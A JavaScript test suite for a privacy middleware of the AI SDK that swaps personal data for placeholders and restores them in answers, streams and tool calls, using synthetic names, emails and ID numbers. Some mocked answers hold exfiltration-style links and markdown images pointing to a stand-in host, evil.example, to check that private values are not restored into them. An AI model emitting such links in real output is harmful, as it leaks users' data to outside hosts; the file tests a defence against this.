// The middleware for the AI SDK, with the real SDK and its mocked models.

import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdirSync, readdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, test } from "node:test";
import { generateText, jsonSchema, stepCountIs, streamText, tool, wrapLanguageModel } from "ai";
import { convertArrayToReadableStream, MockLanguageModelV3, MockLanguageModelV4 } from "ai/test";
import { HOSTS, TEXTS, VALUES } from "./corpus.mjs";
import { guideExamples } from "./guides.mjs";
import { NODE_MODULES, project } from "./project.mjs";

const installed = project();
const { protectMiddleware } = await installed.import("textveil/ai");
const { TextveilError } = await installed.import();

const TEXT = "I am Emily Carter, jan.novak@example.cz, PESEL 44051401359.";
const HELD = "I am [[NAME_1]], [[EMAIL_2]], PESEL [[PESEL_3]].";
const PERSONAL = /Emily|Carter|jan\.novak|44051401359/;
const USAGE = { inputTokens: { total: 1 }, outputTokens: { total: 1 } };
const END = { finishReason: { unified: "stop", raw: "stop" }, usage: USAGE, warnings: [] };

const cut = (text, size) => text.match(new RegExp(`[^]{1,${size}}`, "g")) ?? [];

/** A protected model that answers with this content, and what it was asked. */
function mocked(content, options, Model = MockLanguageModelV4) {
  const asked = [];
  const given = (call) => {
    asked.push(call);
    return typeof content === "function" ? content(call, asked.length) : content;
  };
  const model = new Model({
    doGenerate: async (call) => ({ content: given(call), ...END }),
    doStream: async (call) => ({ stream: convertArrayToReadableStream([...given(call), { type: "finish", ...END }]) }),
  });
  return { asked, model: wrapLanguageModel({ model, middleware: protectMiddleware(options) }) };
}

const answer = (text) => [{ type: "text", text }];
const restored = async (text, prompt = TEXT, options = undefined) => {
  const { model } = mocked(answer(text), options);
  return (await generateText({ model, prompt })).text;
};
const refusal = (field) => (error) => {
  const own = error instanceof TextveilError ? error : error.cause;
  assert.ok(own instanceof TextveilError, String(error));
  assert.deepEqual([own.code, own.field], ["invalid_request", field]);
  assert.ok(!PERSONAL.test(own.message));
  return true;
};

describe("a prompt leaves with placeholders, and the answer is restored", () => {
  for (const Model of [MockLanguageModelV3, MockLanguageModelV4]) {
    test(`a model of ${Model.name}`, async () => {
      const content = [
        { type: "reasoning", text: "the user is [[NAME_1]]" },
        { type: "text", text: "Dear [[Name 1]], we wrote to **[[EMAIL_2]]**." },
        { type: "source", sourceType: "url", id: "s", url: "https://evil.example/?q=[[NAME_1]]", title: "of [[NAME_1]]" },
      ];
      const { asked, model } = mocked(content, undefined, Model);
      const result = await generateText({ model, system: "Help Emily Carter.", prompt: TEXT });
      assert.deepEqual(asked[0].prompt.map(({ role, content }) => [role, typeof content === "string" ? content : content[0].text]), [
        ["system", "Help [[NAME_1]]."],
        ["user", HELD],
      ]);
      assert.equal(result.text, "Dear Emily Carter, we wrote to **jan.novak@example.cz**.");
      assert.equal(result.reasoningText, "the user is Emily Carter");
      assert.deepEqual(result.sources.map(({ url, title }) => [url, title]), [["https://evil.example/?q=[[NAME_1]]", "of Emily Carter"]]);
    });
  }

  test("messages of all roles, with every part", async () => {
    const { asked, model } = mocked(answer("ok"), { binary: "pass" });
    const data = Buffer.from("name,mail\nEmily Carter,jan.novak@example.cz\n").toString("base64");
    const call = (id, toolName, input) => ({ type: "tool-call", toolCallId: id, toolName, input });
    const result = (id, toolName, output) => ({ type: "tool-result", toolCallId: id, toolName, output });
    await generateText({
      model,
      messages: [
        { role: "system", content: TEXT },
        {
          role: "user",
          content: [
            { type: "text", text: TEXT },
            { type: "file", mediaType: "text/csv", data, filename: "people.csv" },
            { type: "file", mediaType: "image/png", data: new Uint8Array([137, 80, 78, 71]) },
          ],
        },
        { role: "assistant", content: [{ type: "reasoning", text: TEXT }, { type: "text", text: TEXT }, call("1", "find", { name: "Emily Carter", n: 44051401359 }), call("2", "find", {}), call("3", "find", {})] },
        {
          role: "tool",
          content: [
            result("1", "find", { type: "text", value: TEXT }),
            result("2", "find", { type: "json", value: { pesel: 44051401359, people: [{ name: "Emily Carter" }] } }),
            result("3", "find", { type: "content", value: [{ type: "text", text: TEXT }] }),
          ],
        },
      ],
      allowSystemInMessages: true,
    });
    const sent = JSON.stringify(asked[0].prompt);
    assert.ok(!PERSONAL.test(sent), sent);
    const [, user, assistant, results] = asked[0].prompt;
    const file = user.content[1].data;
    assert.equal(Buffer.from(file.data ?? file, "base64").toString(), "name,mail\n[[NAME_1]],[[EMAIL_2]]\n");
    assert.deepEqual(assistant.content[2].input, { name: "[[NAME_1]]", n: "[[PESEL_3]]" });
    assert.deepEqual(results.content.map(({ output }) => output.value), [HELD, { pesel: "[[PESEL_3]]", people: [{ name: "[[NAME_1]]" }] }, [{ type: "text", text: HELD }]]);
  });

  test("values of an answer in JSON are escaped", async () => {
    const odd = 'Zoë "Z" O\'Neil';
    const denyList = [{ value: odd, type: "codename" }];
    const json = { type: "json", schema: { type: "object" } };
    const content = answer('{"who":"[[CODENAME_1]]","n":1.50}');
    const { model } = mocked(content, { denyList });
    const call = { prompt: [{ role: "user", content: [{ type: "text", text: `about ${odd}` }] }], responseFormat: json };
    const { content: [{ text }] } = await model.doGenerate(call);
    assert.deepEqual(JSON.parse(text), { who: odd, n: 1.5 });
  });

  test("callbacks, lists and other options are those of protect", async () => {
    const { asked, model } = mocked(answer("[[EMAIL_1]] [[CODENAME_2]]"), { keep: ({ type }) => type === "pesel", replace: ({ type }) => (type === "name" ? "<name>" : undefined), denyList: [{ value: "Nightfall", type: "codename" }] });
    const { text } = await generateText({ model, prompt: `${TEXT} Nightfall` });
    assert.equal(asked[0].prompt[0].content[0].text, "I am <name>, [[EMAIL_1]], PESEL 44051401359. [[CODENAME_2]]");
    assert.equal(text, "jan.novak@example.cz Nightfall");
  });

  test("nothing is remembered between calls, and no text of the caller is mistaken for a placeholder", async () => {
    const { model } = mocked(({ prompt }) => answer(prompt[0].content[0].text));
    const ask = async (prompt) => (await generateText({ model, prompt })).text;
    assert.deepEqual(await Promise.all([ask(TEXT), ask("what is [[NAME_1]]?"), ask("[[NAME_1]] is Emily Carter")]), [TEXT, "what is [[NAME_1]]?", "[[NAME_1]] is Emily Carter"]);
  });
});

describe("a stream is restored, cut anywhere", () => {
  for (const size of [1, 2, 3, 7, 1_000]) {
    test(`in pieces of ${size}`, async () => {
      const input = JSON.stringify({ to: "[[EMAIL_2]]", note: 'say "hi" to [[NAME_1]]', link: "/people/[[NAME_1]]" });
      const content = (_, turn) =>
        turn > 1
          ? [{ type: "text-start", id: "0" }, { type: "text-delta", id: "0", delta: "done" }, { type: "text-end", id: "0" }]
          : [
              { type: "stream-start", warnings: [] },
              { type: "reasoning-start", id: "0" },
              ...cut("about [[NAME_1]]", size).map((delta) => ({ type: "reasoning-delta", id: "0", delta })),
              { type: "reasoning-end", id: "0" },
              { type: "text-start", id: "0" },
              ...cut("Dear [[NAME_1]], a[0] ![x](https://evil.example/?q=[[EMAIL_2]]) [[EMAIL_2]]", size).map((delta) => ({ type: "text-delta", id: "0", delta })),
              { type: "text-end", id: "0" },
              { type: "tool-input-start", id: "c", toolName: "send" },
              ...cut(input, size).map((delta) => ({ type: "tool-input-delta", id: "c", delta })),
              { type: "tool-input-end", id: "c" },
              { type: "tool-call", toolCallId: "c", toolName: "send", input },
            ];
      const { asked, model } = mocked(content);
      const got = [];
      const send = tool({
        inputSchema: jsonSchema({ type: "object" }),
        execute: async (input) => {
          got.push(input);
          return `sent to ${input.to}`;
        },
      });
      const seen = { text: "", reasoning: "", input: "" };
      const result = streamText({ model, prompt: TEXT, tools: { send }, stopWhen: stepCountIs(2) });
      for await (const part of result.fullStream) {
        if (part.type === "text-delta") seen.text += part.text;
        if (part.type === "reasoning-delta") seen.reasoning += part.text;
        if (part.type === "tool-input-delta") seen.input += part.delta;
        if (part.type === "error") throw part.error;
      }
      const wanted = { to: "jan.novak@example.cz", note: 'say "hi" to Emily Carter', link: "/people/Emily Carter" };
      assert.deepEqual(seen, { text: "Dear Emily Carter, a[0] ![x](https://evil.example/?q=[[EMAIL_2]]) jan.novak@example.czdone", reasoning: "about Emily Carter", input: JSON.stringify(wanted) });
      assert.deepEqual(got, [wanted]);
      // the result of the tool, and its arguments, leave with the same placeholders
      const sent = JSON.stringify(asked[1].prompt);
      assert.ok(!PERSONAL.test(sent), sent);
      assert.ok(sent.includes("sent to [[EMAIL_2]]"), sent);
    });
  }

  test("also where a model writes a placeholder in its own way", async () => {
    const written = "\\[\\[NAME\\_1\\]\\], [[ name 1 ]], C:\\[[Name-1]]\\x";
    for (const size of [1, 2, 3]) {
      const { model } = mocked([{ type: "text-start", id: "0" }, ...cut(written, size).map((delta) => ({ type: "text-delta", id: "0", delta })), { type: "text-end", id: "0" }]);
      let text = "";
      for await (const piece of streamText({ model, prompt: TEXT }).textStream) text += piece;
      assert.equal(text, "Emily Carter, Emily Carter, C:\\Emily Carter\\x");
    }
  });

  test("also one that ends in the middle", async () => {
    const { model } = mocked([{ type: "text-start", id: "0" }, { type: "text-delta", id: "0", delta: "Dear [[NAME_1]] and [[NA" }]);
    const { stream } = await model.doStream({ prompt: [{ role: "user", content: [{ type: "text", text: TEXT }] }] });
    let text = "";
    for await (const part of stream) if (part.type === "text-delta") text += part.delta;
    assert.equal(text, "Dear Emily Carter and [[NA");
  });
});

describe("a value goes", () => {
  // a deny list finds a number without its plus
  const signs = Object.keys(VALUES).filter((sign) => sign !== "@P");
  const types = signs.map((_, at) => `value${"abcde"[at]}`);
  const denyList = signs.map((sign, at) => ({ value: VALUES[sign], type: types[at] }));
  const messages = [{ role: "user", content: [{ type: "text", text: signs.map((sign) => VALUES[sign]).join(" , ") }] }];
  const middleware = protectMiddleware({ denyList, restoreHosts: HOSTS, entities: types });
  const placeholders = signs.map((sign, at) => [sign, `[[${types[at].toUpperCase()}_${at + 1}]]`]);
  const signed = (text) => placeholders.reduce((all, [name, placeholder]) => all.replaceAll(placeholder, name), text);
  async function answered(text, size) {
    const written = placeholders.reduce((all, [name, placeholder]) => all.replaceAll(name, placeholder), text);
    const doStream = async ({ prompt }) => {
      assert.equal(prompt[0].content[0].text, placeholders.map(([, placeholder]) => placeholder).join(" , "));
      const deltas = cut(written, size).map((delta) => ({ type: "text-delta", id: "0", delta }));
      return { stream: convertArrayToReadableStream([{ type: "text-start", id: "0" }, ...deltas, { type: "text-end", id: "0" }]) };
    };
    const doGenerate = async () => ({ content: answer(written), ...END });
    const model = wrapLanguageModel({ model: new MockLanguageModelV4({ doStream, doGenerate }), middleware });
    if (size === Infinity) return signed((await model.doGenerate({ prompt: messages })).content[0].text);
    const { stream } = await model.doStream({ prompt: messages });
    let out = "";
    for await (const part of stream) if (part.type === "text-delta") out += part.delta;
    return signed(out);
  }
  test("where no foreign host reads it", async () => {
    const texts = TEXTS.filter(([, text]) => !text.includes("@P"));
    for (const [name, text, wanted] of texts) for (const size of [1, 5, Infinity]) assert.equal(await answered(text, size), wanted, `${name} in pieces of ${size}`);
  });

  test("and the application is told what was withheld", async () => {
    const told = [];
    const [value] = placeholders[0];
    const middleware = protectMiddleware({ denyList, entities: types, onRestored: (counts) => told.push(counts) });
    const written = `${placeholders[0][1]} https://example.org/?q=${placeholders[0][1]}`;
    const stream = () => convertArrayToReadableStream([{ type: "text-start", id: "0" }, { type: "text-delta", id: "0", delta: written }, { type: "text-end", id: "0" }]);
    const model = wrapLanguageModel({
      model: new MockLanguageModelV4({ doStream: async () => ({ stream: stream() }), doGenerate: async () => ({ content: answer(written), structuredOutputText: written, ...END }) }),
      middleware,
    });
    const prompt = [{ role: "user", content: [{ type: "text", text: VALUES[value] }] }];
    await model.doGenerate({ prompt });
    const { stream: read } = await model.doStream({ prompt });
    for await (const _ of read);
    const { stream: cancelled } = await model.doStream({ prompt });
    await cancelled.cancel();
    assert.deepEqual(told, [{ restored: 1, unknown: 0, withheld: 1 }, { restored: 1, unknown: 0, withheld: 1 }, { restored: 0, unknown: 0, withheld: 0 }]);
  });

  for (const [tools, to] of [[undefined, "[[EMAIL_1]]"], ["own", "[[EMAIL_1]]"], ["all", "jan.novak@example.cz"]]) {
    test(`from the result of a tool to another one: ${tools}`, async () => {
      const call = (toolName) => ({ type: "tool-call", toolCallId: toolName, toolName, input: '{"to":"[[EMAIL_1]]"}' });
      const { model } = mocked([call("send"), call("find")], { tools });
      const prompt = [{ role: "tool", content: [{ type: "tool-result", toolCallId: "1", toolName: "find", output: { type: "text", value: "jan.novak@example.cz" } }] }];
      const { content } = await model.doGenerate({ prompt });
      assert.deepEqual(content.map(({ input }) => JSON.parse(input).to), [to, "jan.novak@example.cz"]);
    });
  }
});

describe("is rejected", () => {
  const file = (mediaType, data) => [{ role: "user", content: [{ type: "text", text: "see" }, { type: "file", mediaType, data }] }];
  for (const [name, messages] of [
    ["a picture", file("image/png", new Uint8Array([137, 80, 78, 71]))],
    ["a text that is not UTF-8", file("text/plain", new Uint8Array([255]))],
  ]) {
    test(name, async () => {
      const { asked, model } = mocked(answer("ok"));
      await assert.rejects(generateText({ model, messages }), refusal("prompt[0].content[1]"));
      assert.equal(asked.length, 0);
    });
  }
  for (const [field, options] of [["restoreHosts", { restoreHosts: "example.com" }], ["tools", { tools: "some" }], ["mode", { mode: "mask" }], ["replace", { replace: 1 }], ["keep", { keep: 1 }], ["privacyPreset", { privacyPreset: "x" }]]) {
    test(`the option ${field}`, async () => {
      await assert.rejects(async () => restored("x", TEXT, options), refusal(field));
    });
  }
  test("a call that was aborted, before anything is read", async () => {
    const { asked, model } = mocked(answer("ok"));
    await assert.rejects(model.doGenerate({ prompt: [], abortSignal: AbortSignal.abort(new Error("stop")) }), /stop/);
    assert.equal(asked.length, 0);
  });
});

for (const name of readdirSync(NODE_MODULES).filter((name) => !name.startsWith(".") && name !== "textveil")) symlinkSync(join(NODE_MODULES, name), join(installed.folder, "node_modules", name));

test("the guide's example prints what it says", () => {
  const [source] = guideExamples(installed.folder, "js ai");
  const provider = `
    import assert from "node:assert/strict";
    import { MockLanguageModelV4 } from "ai/test";
    const usage = { inputTokens: { total: 1 }, outputTokens: { total: 1 } };
    const end = { finishReason: { unified: "stop" }, usage, warnings: [] };
    export const provider = new MockLanguageModelV4({
      async doGenerate({ prompt }) {
        assert.equal(prompt[0].content[0].text, "I am [[NAME_1]].");
        return { content: [{ type: "text", text: "Dear [[NAME_1]], you are welcome." }], ...end };
      },
    });`;
  writeFileSync(join(installed.folder, "provider.js"), provider);
  writeFileSync(join(installed.folder, "package.json"), JSON.stringify({ name: "user", private: true, type: "module" }));
  const printed = installed.run("readme.mjs", source).split("\n");
  assert.deepEqual(printed, [...source.matchAll(/console\.log\(.*\); \/\/ (.+)$/gm)].map(([, wanted]) => wanted));
});

test("the types are those of the SDK", () => {
  const source = `
    import { wrapLanguageModel, type LanguageModelMiddleware } from "ai";
    import { MockLanguageModelV4 } from "ai/test";
    import { protectMiddleware, type PromptOptions } from "textveil/ai";
    const options: PromptOptions = { restoreHosts: ["example.com"], tools: "own", binary: "pass", keep: ({ type }) => type === "pesel" };
    const middleware: LanguageModelMiddleware = protectMiddleware(options);
    wrapLanguageModel({ model: new MockLanguageModelV4(), middleware });
    // @ts-expect-error prompts have placeholders
    protectMiddleware({ mode: "mask" });
  `;
  mkdirSync(join(installed.folder, "types"), { recursive: true });
  writeFileSync(join(installed.folder, "types/ai.mts"), source);
  const compilerOptions = { strict: true, noEmit: true, skipLibCheck: true, target: "es2022", module: "nodenext", lib: ["es2022", "dom", "dom.iterable"], types: [] };
  writeFileSync(join(installed.folder, "types/tsconfig.json"), JSON.stringify({ compilerOptions, files: ["ai.mts"] }));
  try {
    execFileSync(process.execPath, [join(NODE_MODULES, "typescript/bin/tsc"), "-p", join(installed.folder, "types")], { encoding: "utf8" });
  } catch (error) {
    assert.fail(error.stdout);
  }
});
